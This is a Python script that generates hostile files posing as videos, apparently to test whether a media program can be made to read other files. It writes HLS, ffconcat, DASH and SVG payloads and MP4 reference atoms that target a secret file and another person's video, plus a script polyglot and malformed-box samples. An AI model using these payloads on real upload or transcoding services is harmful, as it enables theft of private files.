#!/usr/bin/env python3
"""Writes files that pretend to be videos and try to make a media program open something else.

usage: make_hostile.py FOLDER SECRET_FILE NEIGHBOUR_VIDEO

SECRET_FILE and NEIGHBOUR_VIDEO are what the files try to read: a text and another person's video, by absolute path,
by ../ path and by the name of a sibling. A copy of the video lies beside them as sibling.mp4.
"""
import os
import shutil
import struct
import sys


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(body), kind) + body


def hls(target: str) -> bytes:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\n{target}\n#EXT-X-ENDLIST\n".encode()


def main() -> None:
    folder, secret, video = sys.argv[1:4]
    os.makedirs(folder, exist_ok=True)
    shutil.copyfile(video, os.path.join(folder, "sibling.mp4"))
    relative = os.path.relpath(video, folder)
    original = open(video, "rb").read()
    ftyp = box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41")
    # A reference atom that says: the samples are in another file.
    alias = box(b"dref", struct.pack(">II", 0, 1) + box(b"url ", struct.pack(">I", 0) + f"file://{video}".encode() + b"\0"))
    dref = original
    at = original.find(b"dref")
    if at > 0:
        size = struct.unpack(">I", original[at - 4:at])[0]
        url_flags = at + 4 + 8 + 8 + 3  # version, count, entry header, flags: 0 means "elsewhere"
        dref = original[:url_flags] + b"\0" + original[url_flags + 1:]
        assert size >= 28
    ebml = b"\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska"
    files = {
        "hls-absolute.mp4": hls(video),
        "hls-file-url.mp4": hls("file://" + video),
        "hls-parent.mp4": hls(relative),
        "hls-sibling.mp4": hls("sibling.mp4"),
        "hls-secret.mp4": hls("file://" + secret),
        "hls-http.mp4": hls("http://127.0.0.1:9/x.ts"),
        "hls-concat.mp4": hls(f"concat:{video}|{secret}"),
        "hls-subfile.mp4": hls(f"subfile,,start,0,end,100,,:{secret}"),
        "hls-data.mp4": hls("data:text/plain;base64,R0lGODlh"),
        "hls-crypto.mp4": hls(f"crypto:{secret}"),
        "hls-bom-blanks.mp4": b"\xef\xbb\xbf" + b" \n" * 500_000 + hls(video),
        "ffconcat.mp4": f"ffconcat version 1.0\nfile '{video}'\n".encode(),
        "ffconcat-sibling.mp4": b"ffconcat version 1.0\nfile sibling.mp4\n",
        "dash.mp4": f'<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>{video}</BaseURL></Representation></AdaptationSet></Period></MPD>'.encode(),
        "stream.sdp.mp4": b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
        "smil.mp4": f'<smil><body><video src="{video}"/></body></smil>'.encode(),
        "svg.mp4": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret}"/></svg>'.encode(),
        "polyglot-brand.mp4": box(b"ftyp", b"isom\0\0\2\0" + hls(video)) + original,
        "polyglot-free.mp4": ftyp + box(b"free", b"\n" + hls(video)) + original[len(box(b"ftyp", b"")):],
        "polyglot-html.mp4": ftyp + box(b"free", b"<html><script>alert(1)</script></html>") + box(b"moov", b""),
        "polyglot-matroska.mkv": ebml + hls(video),
        "polyglot-matroska-void.mkv": ebml + b"\xec\x40\x80" + hls(video).ljust(128) + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff",
        "dref-elsewhere.mp4": dref,
        "dref-only.mp4": ftyp + box(b"moov", box(b"trak", box(b"mdia", box(b"minf", box(b"dinf", alias))))),
        "avi.mp4": b"RIFF\x24\0\0\0AVI LIST\x14\0\0\0hdrlavih",
        "caf.mp4": b"caff\0\1\0\0desc",
        "ts.mp4": (b"\x47" + b"\x40\0\x10" + b"\xff" * 184) * 8,
        "ogg.mp4": b"OggS\0\2" + b"\0" * 22,
        "png.mp4": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">IIBBBBB", 100000, 100000, 8, 2, 0, 0, 0),
        "gif.mp4": b"GIF89a\x01\0\x01\0\0\0\0;",
        "zip.mp4": b"PK\3\4" + b"\0" * 26,
        "elf.mp4": b"\x7fELF\2\1\1" + b"\0" * 60,
        "empty.mp4": b"",
        "blank.mp4": b" \n" * 100,
        "heic.mp4": box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", b"\0\0\0\0"),
        "no-index.mp4": ftyp + box(b"mdat", b"\0" * 100),
        "cut-short.mp4": original[: len(original) * 2 // 3],
        "box-bomb.mp4": ftyp + box(b"free", b"") * 5000 + box(b"moov", b""),
        "box-too-small.mp4": ftyp + struct.pack(">I4s", 4, b"moov") + b"\0" * 50,
        "box-huge.mp4": ftyp + struct.pack(">I4sQ", 1, b"moov", 2**63) + b"\0" * 50,
        "ebml-sizes.mkv": b"\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xfe",
        "ebml-other.mkv": b"\x1a\x45\xdf\xa3\x87\x42\x82\x84evil" + b"\x18\x53\x80\x67\xff",
    }
    for name, content in files.items():
        with open(os.path.join(folder, name), "wb") as file:
            file.write(content)


if __name__ == "__main__":
    main()
